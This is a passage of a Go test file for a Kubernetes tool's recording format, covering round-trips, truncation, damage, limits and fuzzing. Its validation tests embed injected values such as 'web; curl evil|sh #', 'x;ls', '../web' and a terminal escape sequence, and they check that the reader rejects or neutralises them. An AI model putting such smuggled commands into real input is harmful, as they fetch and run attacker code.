package recording

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	v1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"pgregory.net/rapid"

	"github.com/plimsoll-k8s/plimsoll/internal/resources"
	"github.com/plimsoll-k8s/plimsoll/internal/whatif/recording/kinds"
	"github.com/plimsoll-k8s/plimsoll/load"
	"github.com/plimsoll-k8s/plimsoll/test/support/must"
)

var start = time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)

// newAbout returns the description of a recording of a number of minutes in steps of a minute.
func newAbout(minutes int) About {
	return About{From: start, To: start.Add(time.Duration(minutes) * time.Minute), Step: 60, Kubernetes: "v1.37.1"}
}

func newNode(name string) *v1.Node {
	return &v1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"zone": "a"}},
		Status:     v1.NodeStatus{Allocatable: v1.ResourceList{v1.ResourceCPU: resource.MustParse("4")}},
	}
}

func newPod(name string) *v1.Pod {
	return &v1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: name},
		Spec: v1.PodSpec{Containers: []v1.Container{{
			Name: "c", Resources: v1.ResourceRequirements{Requests: v1.ResourceList{v1.ResourceCPU: resource.MustParse("100m")}},
		}}},
	}
}

// equal compares recordings.
func equal(want, got *Recording) string {
	sameSeries := cmp.Comparer(func(a, b Series) bool { return a.First == b.First && bytes.Equal(raw(a.codes), raw(b.codes)) })
	sameKind := cmp.Comparer(func(a, b *kinds.Kind) bool { return a == b })
	// Files have the time of creation, which Created has, too.
	noCreation := cmpopts.IgnoreFields(metav1.ObjectMeta{}, "CreationTimestamp")
	return cmp.Diff(want, got, cmp.AllowUnexported(Series{}), cmpopts.EquateEmpty(), sameSeries, sameKind, noCreation)
}

func raw(codes []uint16) []byte {
	out, _ := binary.Append(nil, binary.LittleEndian, codes)
	return out
}

const minutes = 50

// drawTime draws a time in seconds, also before the start and after the end, and Never.
func drawTime(t *rapid.T, name string) int64 {
	if rapid.IntRange(0, 3).Draw(t, name+" never") == 0 {
		return Never
	}
	return rapid.Int64Range(-1000, minutes*60+1000).Draw(t, name)
}

// drawSeries draws a series of whole units.
func drawSeries(t *rapid.T, u *unit) (s Series) {
	if n := rapid.IntRange(0, minutes+5).Draw(t, "values"); n > 0 {
		s.First = rapid.IntRange(0, minutes).Draw(t, "first")
		for range n {
			code := uint16(gapCode)
			if number := rapid.Int32Range(noValue, math.MaxInt32).Draw(t, "number"); number != noValue {
				code = u.code(number)
			}
			s.codes = append(s.codes, code)
		}
	}
	return s
}

// draw draws a recording that is not yet ordered or clipped.
func draw(t *rapid.T) *Recording {
	r := &Recording{About: newAbout(minutes)}
	r.About.complete()
	for i := range rapid.IntRange(0, 5).Draw(t, "nodes") {
		r.Nodes = append(r.Nodes, Node{newNode(fmt.Sprint("node-", i)), drawTime(t, "appeared"), drawTime(t, "gone")})
	}
	for i := range rapid.IntRange(0, 10).Draw(t, "pods") {
		r.Pods = append(r.Pods, Pod{
			Object:  newPod(fmt.Sprint("pod-", i)),
			Created: drawTime(t, "created"), Scheduled: drawTime(t, "scheduled"), Started: drawTime(t, "started"),
			Ended: drawTime(t, "ended"), Node: rapid.SampledFrom([]string{"", "node-0", "node-1"}).Draw(t, "node"),
			CPU: drawSeries(t, millicores()), Memory: drawSeries(t, mebibytes()),
		})
	}
	for range rapid.IntRange(0, 2).Draw(t, "objects") {
		r.Objects = append(r.Objects,
			kinds.Object{Kind: kinds.Of("apps", "ReplicaSet"), JSON: []byte(`{"apiVersion":"apps/v1","kind":"ReplicaSet"}`)})
	}
	return r
}

// TestRoundTrip checks that a recording is read as it was written, that writing it again gives the same bytes, and that
// times do not decrease.
func TestRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		want := draw(t)
		var file bytes.Buffer
		must.Succeed(t, want.Write(&file))
		got, err := Read(bytes.NewReader(file.Bytes()))
		must.Succeed(t, err)
		want.finish()
		if diff := equal(want, got); diff != "" {
			t.Fatal(diff)
		}
		for _, p := range got.Pods {
			last := p.Created
			for _, at := range []int64{p.Scheduled, p.Started, p.Ended} {
				if at != Never && at < last {
					t.Fatalf("pod %s: times decrease: %+v", p.Object.Name, p)
				}
				if at != Never {
					last = at
				}
			}
		}
		var first, second bytes.Buffer
		must.Succeed(t, got.Write(&first))
		again, err := Read(bytes.NewReader(first.Bytes()))
		must.Succeed(t, err)
		if err := again.Write(&second); err != nil || !bytes.Equal(first.Bytes(), second.Bytes()) {
			t.Fatalf("the same recording gave other bytes (%v)", err)
		}
	})
}

// stepsOf returns the values of a series from a step until before another.
func stepsOf(s Series, from, to int) Series {
	from, to = max(from, s.First), min(to, s.End())
	if from >= to {
		return Series{}
	}
	return Series{from, s.codes[from-s.First : to-s.First]}
}

// TestWriteInParts checks that a recording that is written in parts, with changes of nodes and pods and
// overlapping usage, is read like a recording that is written at once.
func TestWriteInParts(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		want := draw(t)
		var file bytes.Buffer
		w, err := NewWriter(&file, want.About)
		must.Succeed(t, err)
		flush := func(err error) {
			if err == nil && rapid.Bool().Draw(t, "flush") {
				err = w.Flush()
			}
			must.Succeed(t, err)
		}
		for _, object := range want.Objects {
			flush(w.AddObject(object.JSON))
		}
		for _, n := range want.Nodes {
			flush(w.AddNode(Node{&v1.Node{ObjectMeta: metav1.ObjectMeta{Name: n.Object.Name}}, n.Appeared, Never}))
			flush(w.AddNode(n))
		}
		for _, p := range want.Pods {
			object := &v1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: p.Object.Name, Labels: map[string]string{"a": "b"}}}
			flush(w.AddPod(Pod{Object: object, Created: p.Created, Scheduled: Never, Started: Never, Ended: Never}))
		}
		for _, p := range want.Pods {
			flush(w.AddPod(p))
			begin, end := min(p.CPU.start(), p.Memory.start()), max(p.CPU.End(), p.Memory.End())
			cut := rapid.IntRange(min(begin, end), end).Draw(t, "cut")
			overlap := rapid.IntRange(0, max(cut-begin, 0)).Draw(t, "overlap")
			flush(w.AddUsage(p.Key(), stepsOf(p.CPU, begin, cut), stepsOf(p.Memory, begin, cut)))
			flush(w.AddUsage(p.Key(), stepsOf(p.CPU, cut-overlap, end), stepsOf(p.Memory, cut-overlap, end)))
		}
		flush(w.SetAbout(want.About))
		flush(w.Close())
		got, err := Read(&file)
		must.Succeed(t, err)
		want.finish()
		if diff := equal(want, got); diff != "" {
			t.Fatal(diff)
		}
	})
}

// sample returns a file in several members, the recording that each number of members gives, and their ends.
func sample(t *testing.T) (file []byte, prefixes []*Recording, ends []int) {
	t.Helper()
	var out bytes.Buffer
	about := newAbout(0)
	w, err := NewWriter(&out, about)
	must.Succeed(t, err)
	want := &Recording{}
	must.Succeed(t, w.AddNode(Node{newNode("n"), -5, Never}))
	want.Nodes = []Node{{newNode("n"), -5, Never}}
	for i := range 4 {
		about.To = start.Add(time.Duration(i*10) * time.Minute)
		p := Pod{
			Object: newPod(fmt.Sprint("p", i)), Created: int64(i * 600), Scheduled: int64(i * 600), Started: Never, Ended: Never, Node: "n",
			CPU: NewSeries(i*10, 1, math.NaN(), 3),
		}
		must.Succeed(t, errors.Join(w.AddPod(p), w.AddUsage(p.Key(), p.CPU, p.Memory), w.SetAbout(about)))
		must.Succeed(t, w.Flush())
		want.About = w.About()
		want.Pods = append(want.Pods, p)
		clone := &Recording{About: want.About, Nodes: want.Nodes, Pods: append([]Pod{}, want.Pods...)}
		clone.finish()
		prefixes, ends = append(prefixes, clone), append(ends, out.Len())
	}
	must.Succeed(t, w.Close())
	return out.Bytes(), append(prefixes, prefixes[len(prefixes)-1]), append(ends, out.Len())
}

// TestTruncated cuts a file at every byte: all whole members are read, and the recording says that its end is missing.
func TestTruncated(t *testing.T) {
	file, prefixes, ends := sample(t)
	for length := range len(file) + 1 {
		got, err := Read(bytes.NewReader(file[:length]))
		whole := 0
		for whole < len(ends) && ends[whole] <= length {
			whole++
		}
		if whole == 0 {
			if err == nil || !strings.Contains(err.Error(), "recording") {
				t.Fatalf("%d bytes: error %v", length, err)
			}
			continue
		}
		if err != nil {
			t.Fatalf("%d bytes: %v", length, err)
		}
		if missing := len(got.About.Missing); (missing == 0) != (length == len(file)) {
			t.Fatalf("%d of %d bytes: %d parts are missing: %v", length, len(file), missing, got.About.Missing)
		}
		got.About.Missing = nil
		if diff := equal(prefixes[whole-1], got); diff != "" {
			t.Fatalf("%d bytes: %s", length, diff)
		}
	}
}

// TestDamaged changes every byte of a file: reading returns an error, the rest of the file and a note about the missing part, or the same
// recording, because it does not depend on the byte.
func TestDamaged(t *testing.T) {
	file, prefixes, ends := sample(t)
	for i := range file {
		damaged := bytes.Clone(file)
		damaged[i] ^= 0x10
		got, err := Read(bytes.NewReader(damaged))
		switch {
		case err != nil:
			if i >= ends[0] {
				t.Errorf("byte %d: %v", i, err)
			}
		case len(got.About.Missing) == 0:
			if diff := equal(prefixes[len(prefixes)-1], got); diff != "" {
				t.Errorf("byte %d: nothing is missing, but %s", i, diff)
			}
		case i >= ends[1]+headerLength && i < ends[2] && len(got.Pods) != 3:
			t.Errorf("byte %d: %d pods, want those of the other members", i, len(got.Pods))
		}
	}
}

// TestOtherPrograms packs the lines of a file again, as zcat and gzip do.
func TestOtherPrograms(t *testing.T) {
	file, prefixes, _ := sample(t)
	unpacked, err := gzip.NewReader(bytes.NewReader(file))
	must.Succeed(t, err)
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	if _, err := io.Copy(w, unpacked); err != nil {
		t.Fatal(err)
	}
	must.Succeed(t, w.Close())
	got, err := Read(&packed)
	must.Succeed(t, err)
	if diff := equal(prefixes[len(prefixes)-1], got); diff != "" {
		t.Error(diff)
	}
}

// TestReadSpan has ten members, each with the usage of an hour: of a span of an hour, those from an hour before until an hour after it are
// read.
func TestReadSpan(t *testing.T) {
	var out bytes.Buffer
	w, err := NewWriter(&out, newAbout(600))
	must.Succeed(t, err)
	p := Pod{Object: newPod("p"), Scheduled: 0, Started: 0, Ended: Never, Node: "n"}
	must.Succeed(t, w.AddPod(p))
	must.Succeed(t, w.Flush())
	for hour := range 10 {
		values := make([]float64, 60)
		must.Succeed(t, w.AddUsage(p.Key(), NewSeries(60*hour, values...), NewSeries(60*hour, values...)))
		must.Succeed(t, w.Flush())
	}
	must.Succeed(t, w.Close())
	got, err := defaultLimits.read(&out, 4*3600, 5*3600)
	must.Succeed(t, err)
	for hour := range 10 {
		if _, ok := got.Pods[0].CPU.At(60*hour + 30); ok != (hour >= 3 && hour <= 6) {
			t.Errorf("hour %d: read %t", hour, ok)
		}
	}
	if len(got.About.Missing) > 0 {
		t.Errorf("missing %v", got.About.Missing)
	}
}

// withLines returns a file with a header and lines.
func withLines(t *testing.T, lines ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	w, err := NewWriter(&out, newAbout(minutes))
	must.Succeed(t, err)
	for _, line := range lines {
		must.Succeed(t, w.add(append(w.lines, line...)))
	}
	must.Succeed(t, w.Close())
	return out.Bytes()
}

// after returns a field with the time of a step.
func after(step int) string {
	return fmt.Sprintf(`"time":%q`, start.Add(time.Duration(step)*time.Minute).Format(time.RFC3339))
}

// event returns a line about an object at a step.
func event(kind string, step int, object string) string {
	return fmt.Sprintf(`{"type":%q,%s,"object":%s}`, kind, after(step), object)
}

// used returns a line with the usage of the pod x/p from a step on.
func used(step int, cpu, memory string) string {
	return fmt.Sprintf(`{"type":"USAGE",%s,"namespace":"x","pod":"p","cpuMillicores":[%s],"memoryMiB":[%s]}`, after(step), cpu, memory)
}

// born is a time of creation.
const born = `,"creationTimestamp":"2026-03-01T00:00:00Z"`

// podText returns an object of the pod x/p with fields of its metadata, spec and status.
func podText(metadata, spec, status string) string {
	return `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"x"` + metadata + `},"spec":{` + spec + `},"status":{` +
		status + `}}`
}

// TestWatchEvents reads lines as kubectl prints them: pods that succeed, are evicted and deleted; a pod of a StatefulSet that is replaced
// by another one of the same name, each with its usage; and a node that is replaced.
func TestWatchEvents(t *testing.T) {
	const first, second = `,"creationTimestamp":"2026-03-01T00:01:00Z"`, `,"creationTimestamp":"2026-03-01T00:10:30Z"`
	const bound = `"startTime":"2026-03-01T00:02:30Z","conditions":[{"type":"PodScheduled","status":"True",` +
		`"lastTransitionTime":"2026-03-01T00:02:00Z"}]`
	node := `{"apiVersion":"v1","kind":"Node","metadata":{"name":"n"}}`
	succeeded := bound + `,"phase":"Succeeded","containerStatuses":[{"state":{"terminated":{"finishedAt":"2026-03-01T00:08:00Z"}}}]`
	read := func(lines ...string) *Recording {
		t.Helper()
		r, err := Read(bytes.NewReader(withLines(t, lines...)))
		must.Succeed(t, err)
		return r
	}
	r := read(
		event("ADDED", 0, node),
		event("ADDED", 1, podText(first, "", "")),
		event("MODIFIED", 2, podText(first, `"nodeName":"n"`, bound)),
		used(3, "100,null", "1024,2"),
		used(3, "null,7", "3,null"),
		event("MODIFIED", 9, podText(first, `"nodeName":"n"`, succeeded)),
		event("DELETED", 10, podText(first, `"nodeName":"n"`, succeeded)),
		event("ADDED", 11, podText(second, `"nodeName":"n"`, "")),
		used(12, "5", "6"),
		strings.Replace(used(5, "8", "9"), `"p"`, `"p", "created":"2026-03-01T00:01:00Z"`, 1),
		event("DELETED", 20, podText(second, `"nodeName":"n"`, "")),
		event("DELETED", 30, node),
		event("ADDED", 31, node),
	)
	want := []Pod{
		{
			Created: 60, Scheduled: 120, Started: 150, Ended: 480, Node: "n",
			CPU: NewSeries(3, 100, 7, 8), Memory: NewSeries(3, 3<<20, 2<<20, 9<<20),
		},
		{
			Created: 630, Scheduled: 630, Started: Never, Ended: 1200, Node: "n",
			CPU: NewSeries(12, 5), Memory: NewSeries(12, 6<<20),
		},
	}
	for i := range want {
		want[i].Object = &v1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "x", Name: "p"}}
	}
	got := &Recording{About: r.About, Pods: r.Pods}
	if diff := equal(&Recording{About: r.About, Pods: want}, got); diff != "" {
		t.Error(diff)
	}
	if len(r.Nodes) != 2 || r.Nodes[0].Gone != 1800 || r.Nodes[1].Appeared != 1860 || r.Nodes[1].Gone != Never {
		t.Errorf("nodes %+v", r.Nodes)
	}
	// An evicted pod has no containers that ended.
	evicted := podText(first, "", `"phase":"Failed"`)
	r = read(
		event("ADDED", 1, podText(first, "", "")),
		event("MODIFIED", 5, evicted),
		event("MODIFIED", 6, evicted),
		event("DELETED", 9, evicted),
	)
	if len(r.Pods) != 1 || r.Pods[0].Ended != 300 {
		t.Errorf("pods %+v, want one that ended when it was first seen evicted", r.Pods)
	}
	r = read(event("DELETED", 1, node), event("DELETED", 1, podText(first, "", "")), used(1, "1", "1"))
	if missing := fmt.Sprint(r.About.Missing); !strings.Contains(missing, "3 lines about nodes and pods") {
		t.Errorf("missing %s", missing)
	}
}

func TestReadInvalid(t *testing.T) {
	pod := event("ADDED", 0, podText(born, "", ""))
	damaged, long := withLines(t, pod), withLines(t)
	damaged[len(damaged)-1] ^= 1
	binary.LittleEndian.PutUint32(long[indexAt:], math.MaxUint32)
	binary.LittleEndian.PutUint32(long[indexAt+12:], crc32.ChecksumIEEE(long[indexAt:indexAt+12]))
	headless, err := compress([]byte(pod+"\n"), gzip.BestSpeed, 0, 0)
	must.Succeed(t, err)
	for _, tc := range []struct {
		name string
		file []byte
		want string
	}{
		{"damaged", damaged, "not a recording: damaged (gzip: invalid checksum)"},
		{"empty", nil, "not a recording: empty file"},
		{"another file", []byte("kind: Pod\nmetadata:\n"), "not a recording: must be a file of plimsoll record or plimsoll snapshot"},
		{"an earlier format", []byte("PLRC\x00\x00"), "not a recording: recorded by an earlier build, whose files are not read: record again"},
		{"long member", long, "member of 4294967295 bytes: must have at most 67108864"},
		{"no header", headless, `not a recording: member 1 (at byte 0): line 1: type: found "ADDED": the first line must be of type RECORDING`},
		{"no type", withLines(t, podText(born, "", "")), "member 1 (at byte 0): line 2: type: required: must be the type of the line, such as ADDED"},
		{"object without kind", withLines(t, event("ADDED", 0, "{}")), "member 1 (at byte 0): line 2: object 1: kind: required value"},
		{"no object", withLines(t, `{"type":"ADDED",`+after(0)+`}`), "object: unexpected end of JSON input"},
		{"no time", withLines(t, `{"type":"ADDED","object":`+podText(born, "", "")+`}`), "time: invalid value 0001-01-01T00:00:00Z: must be at most"},
		{
			"negative amount of a node",
			withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"n"},"status":{"allocatable":{"cpu":"-1"}}}`)),
			`node n: status.allocatable.cpu: invalid value "-1": must be at least 0`,
		},
		{
			"negative request", withLines(t, event("ADDED", 0, podText(born, `"overhead":{"cpu":"-1"}`, ""))),
			`pod x/p: spec.overhead.cpu: invalid value "-1": must be at least 0`,
		},
		{
			"name that is none", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"n\nm: 1"}}`)),
			`metadata.name: Invalid value: "n\nm: 1": a lowercase RFC 1123 subdomain must`,
		},
		{
			"namespace that is none", withLines(t, event("ADDED", 0, strings.Replace(podText(born, "", ""), `"x"`, `"x;ls"`, 1))),
			`metadata.namespace: Invalid value: "x;ls": a lowercase RFC 1123 label must`,
		},
		{
			"label that is none", withLines(t, event("ADDED", 0, podText(born+`,"labels":{"a":"\u001b[2J"}`, "", ""))),
			`metadata.labels: Invalid value: "\x1b[2J": a valid label must`,
		},
		{"node without name", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node"}`)), "node: metadata.name: required value"},
		{
			"pod without namespace", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"}}`)),
			"pod: metadata.name and metadata.namespace: required values",
		},
		{
			"pod in a far future", withLines(t, event("ADDED", 0, podText(`,"creationTimestamp":"5000-01-01T00:00:00Z"`, "", ""))),
			"s after the start: must be from -4294967296 to 4294967296",
		},
		{
			"quantity", withLines(t, event("ADDED", 0, podText(born, `"containers":[{"resources":{"requests":{"cpu":"1e999999999"}}}]`, ""))),
			"invalid quantity",
		},
		{"load", withLines(t, `{"type":"LOAD",`+after(0)+`,"nodes":{}}`), "load: timestamp, data.NodeMetricsMap: required"},
		{"line that is cut off", withLines(t, pod, used(0, "1", "1")[:50]), "line 3: usage: unexpected end of JSON input"},
		{"negative usage", withLines(t, pod, used(0, "-1", "1")), "usage: invalid value -1: must not be negative"},
		{"usage with a fraction", withLines(t, pod, used(0, "1.5", "1")), "cannot unmarshal number 1.5"},
		{"usage out of range", withLines(t, pod, used(0, "1", "2147483648")), "cannot unmarshal number 2147483648"},
		{"usage of different lengths", withLines(t, pod, used(0, "1,2", "1")), "found 2 values of cpuMillicores and 1 of memoryMiB"},
		{"usage before the start", withLines(t, pod, used(-1, "1", "1")), "usage of pod x/p: time: must not be before the start"},
		{"usage after the end", withLines(t, pod, used(MaxSteps, "1", "1")), "must be before step 1048576"},
		{"usage out of order", withLines(t, pod, used(2, "1", "1"), used(1, "1", "1")), "usage of pod x/p: found step 1 after step 2"},
		{
			"two starts", withLines(t, `{"type":"RECORDING","apiVersion":"recording.plimsoll.dev/v2","time":"2020-01-01T00:00:00Z",`+
				`"to":"2020-01-02T00:00:00Z","stepSeconds":60}`), "time and stepSeconds must not change",
		},
		{
			"another version", withLines(t, `{"type":"RECORDING","apiVersion":"recording.plimsoll.dev/v3"}`),
			`apiVersion: found "recording.plimsoll.dev/v3": must be recording.plimsoll.dev/v2`,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := Read(bytes.NewReader(tc.file)); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %v, want %s", err, tc.want)
			}
		})
	}
}

// TestInvalidOwners reads pods whose owner no API server has, though it accepts the reference: such pods are their own workload.
func TestInvalidOwners(t *testing.T) {
	for owner, want := range map[string]resources.Workload{
		`"kind":"ReplicaSet","name":"web"`:                  {Namespace: "x", Kind: "ReplicaSet", Name: "web"},
		`"kind":"Rollout","name":"web.2"`:                   {Namespace: "x", Kind: "Rollout", Name: "web.2"},
		`"kind":"ReplicaSet","name":"web; curl evil|sh #"`:  {Namespace: "x", Kind: "Pod", Name: "p"},
		`"kind":"ReplicaSet","name":"web\nmetadata: {}\n#"`: {Namespace: "x", Kind: "Pod", Name: "p"},
		`"kind":"Set\nspec:","name":"web"`:                  {Namespace: "x", Kind: "Pod", Name: "p"},
		`"kind":"","name":"../web"`:                         {Namespace: "x", Kind: "Pod", Name: "p"},
	} {
		reference := `,"ownerReferences":[{"apiVersion":"apps/v1","controller":true,` + owner + `}]`
		r, err := Read(bytes.NewReader(withLines(t, event("ADDED", 0, podText(born+reference, "", "")))))
		must.Succeed(t, err)
		if got := resources.WorkloadOf(r.Pods[0].Object); got != want {
			t.Errorf("%s: workload %+v, want %+v", owner, got, want)
		}
	}
}

// TestRecordedOwners reads pods of ReplicaSets and ReplicationControllers with a recorded owner, with and without labels: their workload is
// the owner, also when it is read again. The template is known if it was recorded.
func TestRecordedOwners(t *testing.T) {
	set := func(kind, name, owner string) string {
		return event(
			"ADDED",
			0,
			`{"apiVersion":"apps/v1","kind":"`+kind+`","metadata":{"name":"`+name+`","namespace":"x","ownerReferences":[{`+owner+
				`,"controller":true}]},"spec":{"template":{"spec":{"containers":[{"name":"main"}]}}}}`,
		)
	}
	for name, tc := range map[string]struct {
		set, labels string
		want        resources.Workload
	}{
		"Deployment":          {set("ReplicaSet", "web-1", `"kind":"Deployment","name":"web"`), "", resources.Workload{Namespace: "x", Kind: "Deployment", Name: "web"}},
		"Rollout":             {set("ReplicaSet", "web-1", `"kind":"Rollout","name":"web"`), `,"labels":{"rollouts-pod-template-hash":"1"}`, resources.Workload{Namespace: "x", Kind: "Rollout", Name: "web"}},
		"a longer name":       {set("ReplicaSet", "web-1", `"kind":"Deployment","name":"web-of-shop"`), `,"labels":{"pod-template-hash":"1"}`, resources.Workload{Namespace: "x", Kind: "Deployment", Name: "web-of-shop"}},
		"not recorded":        {set("ReplicaSet", "web-2", `"kind":"Deployment","name":"web"`), "", resources.Workload{Namespace: "x", Kind: "ReplicaSet", Name: "web-1"}},
		"a name that is none": {set("ReplicaSet", "web-1", `"kind":"Deployment","name":"web;ls"`), "", resources.Workload{Namespace: "x", Kind: "ReplicaSet", Name: "web-1"}},
	} {
		owner := `,"ownerReferences":[{"kind":"ReplicaSet","name":"web-1","controller":true}]`
		r, err := Read(bytes.NewReader(withLines(t, event("ADDED", 0, podText(born+owner+tc.labels, "", "")), tc.set)))
		must.Succeed(t, err)
		for range 2 {
			if got := resources.WorkloadOf(r.Pods[0].Object); got != tc.want {
				t.Errorf("%s: workload %+v, want %+v", name, got, tc.want)
			}
			if got := r.Templates()[OwnerOf(r.Pods[0].Object)]; fmt.Sprint(got) != "[main]" && name != "not recorded" {
				t.Errorf("%s: template %v", name, got)
			}
			var out bytes.Buffer
			must.Succeed(t, r.Write(&out))
			r, err = Read(&out)
			must.Succeed(t, err)
		}
	}
}

// TestLaterRelease checks that types of lines and fields of a later release are ignored.
func TestLaterRelease(t *testing.T) {
	more := strings.Replace(used(0, "1", "2"), "}", `,"gpu":[1]}`, 1)
	r, err := Read(bytes.NewReader(withLines(t, `{"type":"DISK",`+after(0)+`}`, event("ADDED", 0, podText(born, "", "")), more)))
	if err != nil || len(r.Pods) != 1 || r.Pods[0].CPU.Len() != 1 {
		t.Errorf("%+v, error %v", r, err)
	}
}

// TestBounds checks that each bound gives an error.
func TestBounds(t *testing.T) {
	node := event("ADDED", 0, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"n"}}`)
	pod, object := event("ADDED", 0, podText(born, "", "")), event("ADDED", 0, `{"kind":"X"}`)
	text := func(n int) string { return event("ADDED", 0, `{"kind":"X","a":"`+strings.Repeat("a", n)+`"}`) }
	for _, tc := range []struct {
		change func(*limits)
		file   []byte
		want   string
	}{
		{func(l *limits) { l.nodes = 1 }, withLines(t, node, strings.Replace(node, `"n"`, `"m"`, 1)), "found more than 1 nodes"},
		{func(l *limits) { l.pods = 1 }, withLines(t, pod, strings.Replace(pod, `"p"`, `"q"`, 1)), "found more than 1 pods"},
		{func(l *limits) { l.objects = 1 }, withLines(t, object, object), "found more than 1 objects"},
		{
			func(l *limits) { l.structs = 0 }, withLines(t, event("ADDED", 0, `{"kind":"X","a":[`+strings.Repeat("{},", 9999)+`{}]}`)),
			"JSON objects: must have at most 0 and one for each byte of the file",
		},
		{func(l *limits) { l.values = 2 }, withLines(t, pod, used(0, "1,2,3", "1,2,3")), "usage of pod x/p: found more than 2 values"},
		{ // a value at step 0 and at step 1,030,000: the gap takes 2 MB of memory, the file 1 KB
			func(l *limits) { l.freeValues = 2 }, withLines(t, pod, used(0, "1", "1"), used(1_030_000, "1", "1")),
			"values, gaps included, in a file of",
		},
		{func(l *limits) { l.line = 10 }, withLines(t, pod), "bytes: must have at most 10"},
		{func(l *limits) { l.member = 1000 }, withLines(t, text(2000)), "member of more than 1000 bytes when unpacked"},
		{func(l *limits) { l.text = 0 }, withLines(t, text(3<<20)), "bytes of lines in a file of"},
	} {
		l := defaultLimits
		tc.change(&l)
		if _, err := l.read(bytes.NewReader(tc.file), 0, 0); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("error %v, want %s", err, tc.want)
		}
	}
}

// TestReadEarlierRelease checks that a recording of an earlier release is read.
func TestReadEarlierRelease(t *testing.T) {
	got, err := Open("testdata/earlier" + Extension)
	must.Succeed(t, err)
	about := newAbout(minutes)
	about.complete()
	about.Missing = []Missing{{What: "services", Why: "listing is forbidden"}}
	want := &Recording{
		About: about, Nodes: []Node{{newNode("a"), -60, Never}, {newNode("b"), 120, 600}},
		Pods: []Pod{
			{
				Object: newPod("web"), Scheduled: 5, Started: 10, Ended: 1800, Node: "a",
				CPU: NewSeries(1, 100, 150, 200), Memory: NewSeries(1, 1<<30),
			},
		},
		Objects: []kinds.Object{{Kind: kinds.Of("apps", "ReplicaSet"), JSON: []byte(`{"apiVersion":"apps/v1","kind":"ReplicaSet"}`)}},
	}
	if diff := equal(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestOpen(t *testing.T) {
	name := filepath.Join(t.TempDir(), "week.ndjson.gz")
	if _, err := Open(filepath.Dir(name)); err == nil || !strings.Contains(err.Error(), "found no recording") {
		t.Errorf("error %v", err)
	}
	must.Succeed(t, os.WriteFile(name, []byte("\x1f\x8b"), 0o600))
	if _, err := Open(name); err == nil || !strings.Contains(err.Error(), name+": not a recording: cut off within a member") {
		t.Errorf("error %v", err)
	}
}

// TestWriterErrors checks that a writer rejects content that a reader would reject.
func TestWriterErrors(t *testing.T) {
	for want, change := range map[string]func(*About){
		"stepSeconds: invalid value -1": func(a *About) { a.Step = -1 },
		"to: invalid value":             func(a *About) { *a = newAbout(MaxSteps) },
		// Nanoseconds since the start must fit in 64 bits.
		"at most 4294967296 s":         func(a *About) { a.Step, a.To = maxStep, a.From.Add((maxSeconds+1)*time.Second) },
		"must not be before the start": func(a *About) { a.To = a.From.Add(-time.Second) },
	} {
		about := newAbout(1)
		change(&about)
		if _, err := NewWriter(&bytes.Buffer{}, about); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("error %v, want %s", err, want)
		}
	}
	w, err := NewWriter(&bytes.Buffer{}, newAbout(1))
	must.Succeed(t, err)
	if err := w.AddUsage(PodKey{}, NewSeries(MaxSteps, 1), Series{}); err == nil || !strings.Contains(err.Error(), "usage at steps") {
		t.Errorf("error %v", err)
	}
}

// FuzzRead checks that no input crashes the reader, and that accepted input is read alike after it is written.
func FuzzRead(f *testing.F) {
	var out bytes.Buffer
	w, err := NewWriter(&out, newAbout(minutes))
	must.Succeed(f, err)
	p := Pod{Object: newPod("p"), Scheduled: Never, Started: Never, Ended: Never}
	must.Succeed(f, errors.Join(w.AddPod(p), w.AddUsage(p.Key(), NewSeries(0, 1, 2), Series{})))
	lines := bytes.Clone(w.lines)
	f.Add(lines)
	f.Add(lines[:len(lines)/2])
	w, err = NewWriter(&out, NewSnapshot(start, "", nil, nil).About)
	must.Succeed(f, err)
	s := &Recording{Load: &load.Reading{Time: start, Nodes: map[string]load.Node{"a": {HasCPU: true}}}, Usage: usageReading()}
	must.Succeed(f, w.addMeasured(s))
	f.Add(bytes.Clone(w.lines))
	f.Fuzz(func(t *testing.T, lines []byte) {
		member, err := compress(lines, gzip.BestSpeed, 0, 0)
		must.Succeed(t, err)
		small := limits{
			member: 1 << 20, line: 1 << 20, text: 1 << 20, nodes: 100, pods: 100, objects: 100, structs: 10_000, values: 1 << 21,
		}
		_, _ = small.read(bytes.NewReader(lines), 0, 0)
		r, err := small.read(bytes.NewReader(member), 0, 0)
		if err != nil {
			return
		}
		for i := range r.Objects { // written without spaces
			r.Objects[i].JSON, err = json.Marshal(r.Objects[i].JSON)
			must.Succeed(t, err)
		}
		var file bytes.Buffer
		must.Succeed(t, r.Write(&file))
		again, err := Read(&file)
		must.Succeed(t, err)
		if diff := equal(r, again); diff != "" {
			t.Fatal(diff)
		}
	})
}

// FuzzUsageLine checks that both parsers of usage agree about each line that the fast one accepts, and that it accepts what is written.
func FuzzUsageLine(f *testing.F) {
	for _, created := range []*time.Time{nil, &start} {
		l := usageLine{Time: start, Namespace: "a", Pod: "b", Created: created, CPU: numbers{0, noValue, math.MaxInt32}}
		l.Memory = numbers{1, 2, 3}
		raw := l.appendTo(nil)
		f.Add(raw)
